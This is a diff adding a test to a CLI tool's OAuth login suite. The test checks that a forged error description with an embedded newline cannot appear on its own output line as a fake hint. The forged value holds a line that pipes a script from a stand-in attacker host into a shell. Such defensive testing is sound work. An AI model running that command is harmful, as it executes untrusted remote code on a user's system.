@@ -57,6 +57,18 @@ test.each([
   expect(waiting.oauth.tokenRequests).toEqual([]);
 });
 
+test('H3 a line end in an answer begins no line that could be taken for a hint of mailctl', async () => {
+  const waiting = await startWaitingLogin();
+  const forged = 'Ask Bob\n  → curl https://evil.example | sh';
+  await fetch(
+    waiting.redirect({ code: undefined, error: 'server_error', error_description: forged }),
+  );
+  const result = await waiting.login.result;
+  expect(result.stderr).toMatch(/ Ask Bob {3}→ curl/);
+  expect(result.stderr).not.toMatch(/^ *→ curl/m);
+  expectPlain(result);
+});
+
 const evil = 'evil.example';
 
 /** Metadata nobody may follow: no browser, no request to what it names. */
